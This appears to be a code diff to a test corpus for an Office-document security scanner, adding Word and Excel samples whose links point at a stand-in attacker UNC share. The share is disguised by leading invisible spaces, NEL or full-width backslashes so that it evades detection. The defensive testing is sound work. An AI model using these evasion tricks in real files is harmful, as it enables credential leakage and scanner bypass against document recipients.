@@ -81,6 +81,7 @@ import {
   documentFetching,
   documentOf,
   FETCHING_BODIES,
+  chartShapesFetching,
   tableOfContents,
   workbookWithStrings,
 } from '../../fixtures/active-office.ts';
@@ -1247,6 +1248,7 @@ const officeItems: CorpusItem[] = [
   ...drawingShapeOfficeItems(),
   ...onlineVideoOfficeItems(),
   ...svgPictureOfficeItems(),
+  ...decodedTargetOfficeItems(),
 ];
 
 /** An Office item, declared as its id's first word says (a PPTX, not evidence, as a DOCX). */
@@ -3206,6 +3208,52 @@ export const ACTIVE_GENUINE: readonly {
       ),
     warning: 'EXTERNAL_LINK',
   },
+  {
+    id: 'docx-smartart-image-layer-stroke-beside-hyperlink',
+    declared: 'docx',
+    // SmartArt, an artistic effect's image layer and a VML stroke's picture, each naming a picture
+    // in the package, beside a clicked web link (round 11).
+    bytes: () =>
+      documentLinking(
+        FETCHING_BODIES.smartart.replace(/rId9/g, 'rId8') +
+          FETCHING_BODIES['image-layer'].replace(/rId9/g, 'rId8') +
+          FETCHING_BODIES['vml-stroke'].replace(/rId9/g, 'rId8') +
+          '<w:p><w:hyperlink r:id="rId9"><w:r><w:t>工信部</w:t></w:r></w:hyperlink></w:p>',
+        [rel('rId8', 'image', 'media/image1.png'), rel('rId9', 'hyperlink', 'https://www.miit.gov.cn/', true)],
+      ),
+    warning: 'EXTERNAL_LINK',
+  },
+  {
+    id: 'docx-chinese-relative-links-decoded',
+    declared: 'docx',
+    // Relative links in Chinese, decoded as Word decodes them (round 11): a relationship, a field
+    // and a VML picture's source, one with a no-break space inside, one with full-width brackets;
+    // and a web link whose path has full-width brackets, a warning.
+    bytes: () =>
+      documentLinking(
+        '<w:p><w:hyperlink r:id="rId7"><w:r><w:t>说明</w:t></w:r></w:hyperlink></w:p>' +
+          '<w:p><w:hyperlink r:id="rId8"><w:r><w:t>工信部</w:t></w:r></w:hyperlink></w:p>' +
+          complexField(' HYPERLINK "..\\\\资料\\\\表.xlsx" ') +
+          complexField(' HYPERLINK "附件\u00a0说明（一）.pdf" ') +
+          '<w:p><w:r><w:pict><v:shape style="width:9pt;height:9pt"><v:imagedata src="图片/图\u3000一.png"/></v:shape></w:pict></w:r></w:p>',
+        [
+          rel('rId7', 'hyperlink', '附件/说明.pdf', true),
+          rel('rId8', 'hyperlink', 'https://www.miit.gov.cn/附件（一）.pdf', true),
+        ],
+      ),
+    warning: 'EXTERNAL_LINK',
+  },
+  {
+    id: 'xlsx-chinese-relative-links-decoded',
+    declared: 'xlsx',
+    // HYPERLINK to relative Chinese paths, written and picked from a shared string (round 11).
+    bytes: () =>
+      workbookWithStrings(
+        '<c r="A1" t="s"><v>0</v></c><c r="B1" t="str"><f>HYPERLINK(A1)</f><v>打开</v></c>' +
+          '<c r="C1" t="str"><f>HYPERLINK(&quot;附件/说明.pdf&quot;,&quot;说明&quot;)</f><v>说明</v></c>',
+        ['..\\资料\\表（一）.xlsx'],
+      ),
+  },
 ];
 
 /**
@@ -3646,6 +3694,19 @@ function fetchedRelationshipOfficeItems(): CorpusItem[] {
       () => workbookPicture('r:embed="rId1"', [rel('rId1', 'hyperlink', TRACK, true)]),
       'OOXML_EXTERNAL',
     ),
+    // Round 11: a chart's drawn shapes, in Word and in Excel; a VML stroke's picture in Excel's VML.
+    item(
+      'docx-chart-shapes-fetch-hyperlink-relationship',
+      EXTERNAL,
+      () => chartShapesFetching('docx', TRACK),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'xlsx-chart-shapes-fetch-hyperlink-relationship',
+      EXTERNAL,
+      () => chartShapesFetching('xlsx', TRACK),
+      'OOXML_EXTERNAL',
+    ),
   ];
 }
 
@@ -3760,4 +3821,64 @@ function svgPictureOfficeItems(): CorpusItem[] {
       'OOXML_EXTERNAL',
     ),
   ];
+}
+
+/**
+ * Link targets as Word and Excel decode them (round 11): a UTF-8 no-break space, an ideographic
+ * space or NEL before a share, which the reader's trim drops, and a share written in full-width
+ * ASCII, which a best-fit conversion folds to backslashes. The streamed checks read a part a byte
+ * a character, so the first three were bytes no trim drops, and the target looked relative: each
+ * was VALID in a Word field, a VML picture's source, an Excel HYPERLINK literal and a string it
+ * picks; NEL and the full-width share were VALID or a warning in a relationship and a hyperlink
+ * base too.
+ */
+function decodedTargetOfficeItems(): CorpusItem[] {
+  const EXTERNAL = 'OOXML external';
+  const LEADS: Record<string, string> = {
+    'no-break-space': '\u00a0\\\\attacker.example\\share\\x.docx',
+    'ideographic-space': '\u3000\\\\attacker.example\\share\\x.docx',
+    nel: '\u0085\\\\attacker.example\\share\\x.docx',
+    'full-width': '＼＼attacker.example＼share＼x.docx',
+  };
+  // As Word writes it in a field's quoted target: each backslash doubled.
+  const inField = (target: string) => target.replace(/\\/g, '\\\\');
+  return Object.entries(LEADS).flatMap(([what, target]) => [
+    item(
+      `docx-hyperlink-relationship-share-after-${what}`,
+      EXTERNAL,
+      () =>
+        documentLinking('<w:p><w:hyperlink r:id="rId7"><w:r><w:t>附件</w:t></w:r></w:hyperlink></w:p>', [
+          rel('rId7', 'hyperlink', target, true),
+        ]),
+      'OOXML_EXTERNAL',
+    ),
+    item(`docx-hyperlink-base-share-after-${what}`, EXTERNAL, () => hyperlinkBase(target), 'OOXML_EXTERNAL'),
+    item(
+      `docx-hyperlink-field-share-after-${what}`,
+      EXTERNAL,
+      () => documentWith(complexField(` HYPERLINK "${inField(target)}" `)),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      `docx-vml-picture-source-share-after-${what}`,
+      EXTERNAL,
+      () => documentVml(`<v:shape style="width:9pt;height:9pt"><v:imagedata src="${target}"/></v:shape>`),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      `xlsx-hyperlink-formula-share-after-${what}`,
+      EXTERNAL,
+      () => sheetWithFormula(`HYPERLINK(&quot;${target}&quot;,&quot;附件&quot;)`),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      `xlsx-hyperlink-picks-string-share-after-${what}`,
+      EXTERNAL,
+      () =>
+        workbookWithStrings('<c r="A1" t="s"><v>0</v></c><c r="B1" t="str"><f>HYPERLINK(A1)</f><v>打开</v></c>', [
+          target,
+        ]),
+      'OOXML_EXTERNAL',
+    ),
+  ]);
 }
